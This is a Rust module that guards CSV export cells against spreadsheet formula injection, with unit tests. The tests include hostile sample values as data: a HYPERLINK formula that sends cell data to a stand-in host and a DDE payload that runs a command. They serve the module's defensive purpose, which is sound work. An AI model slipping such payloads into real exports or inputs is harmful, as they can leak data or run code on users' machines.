//! Every CSV file the platform writes goes through here, so every cell is guarded
//! against formula injection: a spreadsheet opening the file must never run a value
//! (a name like `=HYPERLINK(…)`) as a formula.

use axum::response::Response;

/// A spreadsheet being written: a header row, then rows; cells are guarded as they are
/// added. UTF-8 with a byte-order mark so that Excel reads Arabic, Chinese and Cyrillic.
pub struct Sheet {
    writer: csv::Writer<Vec<u8>>,
}

impl Sheet {
    pub fn new<I, S>(header: I) -> Sheet
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let mut sheet = Sheet {
            writer: csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec()),
        };
        sheet.row(header);
        sheet
    }

    pub fn row<I, S>(&mut self, cells: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        // Writing to memory cannot fail.
        self.writer
            .write_record(cells.into_iter().map(|c| guard(c.as_ref()).into_owned()))
            .expect("CSV into memory");
    }

    pub fn into_bytes(self) -> Vec<u8> {
        self.writer.into_inner().expect("CSV into memory")
    }

    /// The sheet as a download named `filename`.
    pub fn into_response(self, filename: &str) -> Response {
        super::download::attachment("text/csv; charset=utf-8", filename, self.into_bytes())
    }
}

/// A cell a spreadsheet will not execute. Excel, LibreOffice and Google Sheets start a
/// formula at `=`, `+`, `-` or `@` (also in their full-width forms), and some skip
/// leading spaces and control characters first; such cells get a leading apostrophe,
/// which spreadsheets show as text (OWASP's advice). Control characters that could
/// hide the start are treated the same way.
pub fn guard(s: &str) -> std::borrow::Cow<'_, str> {
    let starts_formula = s
        .trim_start_matches(|c: char| c.is_whitespace() || c.is_control())
        .starts_with([
            '=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
        ]);
    let starts_control = s.starts_with(|c: char| c.is_control());
    if starts_formula || starts_control {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_cannot_start_a_formula() {
        for evil in [
            "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Open\")",
            "+1 Plus",
            "-2+3",
            "@SUM(9)",
            " =1+1",
            "\t=1+1",
            "\r=1+1",
            "\n@x",
            "＝1+1",
            "＋1",
        ] {
            let g = guard(evil);
            assert!(g.starts_with('\''), "{evil:?} → {g:?}");
        }
        assert_eq!(guard("Ana"), "Ana");
        assert_eq!(guard("Sénégal"), "Sénégal");
        assert_eq!(guard("王伟"), "王伟");
        assert_eq!(guard("a=b"), "a=b");
    }

    #[test]
    fn a_sheet_reads_back_as_text() {
        let mut s = Sheet::new(["name", "email"]);
        s.row(["=cmd|' /C calc'!A0", "x@un.org"]);
        s.row(["Ана, \"Мария\"", "y@un.org"]);
        let bytes = s.into_bytes();
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
        let mut r = csv::Reader::from_reader(&bytes[3..]);
        let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
        assert_eq!(&rows[0][0], "'=cmd|' /C calc'!A0");
        assert_eq!(&rows[1][0], "Ана, \"Мария\"");
    }
}
